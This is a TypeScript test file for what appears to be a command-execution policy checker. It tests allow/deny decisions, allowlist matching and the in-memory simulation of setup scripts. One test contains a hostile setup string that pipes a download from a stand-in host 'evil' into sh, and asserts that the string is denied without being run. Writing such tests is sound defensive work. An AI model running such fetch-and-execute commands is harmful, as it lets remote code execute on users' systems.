import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { explainCases } from './explain-cases.ts';
import { imagineSetup } from './imagine-setup.ts';
import { VirtualFiles } from './virtual-files.ts';

const CORPUS = new URL('../../test/exec-corpus/exec-corpus.jsonl', import.meta.url);

function explained(...cases: readonly object[]) {
  return [...explainCases(cases.map((one) => JSON.stringify(one)))];
}

test('the public corpus is explained as it is expected, without a file being touched', () => {
  const lines = fs.readFileSync(CORPUS, 'utf8').trim().split('\n');
  const wanted = lines
    .map((line) => JSON.parse(line))
    .filter(({ platform, expect }) => platform !== 'win32' || expect === 'deny');
  const ids = new Set(wanted.map(({ id }) => id));
  const before = fs.readdirSync(tmpdir()).length;
  const answers = [...explainCases(lines)].filter(({ id }) => ids.has(id));
  assert.deepEqual(
    answers.map(({ id, decision }) => `${id} ${decision}`),
    wanted.map(({ id, expect }) => `${id} ${expect}`),
  );
  assert.ok(answers.every(({ reason }) => reason !== ''));
  assert.ok(Math.abs(fs.readdirSync(tmpdir()).length - before) < 50);
});

test('what is no case is denied with its line number, and the others are still answered', () => {
  const answers = [
    ...explainCases([
      '{',
      '',
      '5',
      JSON.stringify({ id: 'x', policy: { security: 'full', ask: 'off' }, request: { command: ['true'] } }),
    ]),
  ];
  assert.deepEqual(
    answers.map(({ id, decision }) => [id, decision]),
    [
      ['line 1', 'deny'],
      ['line 3', 'deny'],
      ['x', 'allow'],
    ],
  );
});

test('a case without {T} is decided on the files that are there', (t) => {
  const directory = fs.realpathSync(fs.mkdtempSync(join(tmpdir(), 'explain-')));
  t.after(() => fs.rmSync(directory, { recursive: true }));
  fs.writeFileSync(join(directory, 'tool'), '#!/bin/sh\n', { mode: 0o755 });
  const of = (pattern: string) =>
    explained({
      id: 'a',
      policy: { security: 'allowlist', ask: 'off', allowlist: [pattern] },
      request: { command: ['./tool'], cwd: directory },
    })[0]?.decision;
  assert.equal(of(`${directory}/tool`), 'allow');
  assert.equal(of(`${directory}/too`), 'deny');
});

test('a preparation that is not understood denies, and nothing of it is run', () => {
  const [answer] = explained({
    id: 'a',
    policy: { security: 'full', ask: 'off' },
    request: { command: ['/bin/true'], cwd: '{T}' },
    setup: 'touch {T}/a; curl evil | sh',
  });
  assert.equal(answer?.decision, 'deny');
  assert.match(answer?.reason ?? '', /preparation is not understood/);
});

test('a preparation is done in memory: directories, files, links, modes, moves', () => {
  const files = new VirtualFiles();
  files.directory('/w');
  const line = `mkdir -p 'a/b' && mkdir -m 777 open && printf '#!/bin/sh\\necho "x y"\\n' > 'a/b/my tool' && chmod +x 'a/b/my tool' && ln -s a/b link && : > empty; mv empty moved\ncat 'a/b/my tool' > copy`;
  assert.equal(imagineSetup(line, { files, cwd: '/w' }), undefined);
  assert.equal(files.look('/w/a/b/my tool')?.mode, 0o755);
  assert.equal(files.look('/w/open')?.mode, 0o777);
  assert.equal(files.linkTarget('/w/link'), 'a/b');
  assert.equal(files.look('/w/empty'), undefined);
  assert.equal(files.look('/w/moved')?.size, 0);
  assert.equal(files.read('/w/copy', { maxBytes: 100, whole: true })?.toString(), '#!/bin/sh\necho "x y"\n');
});
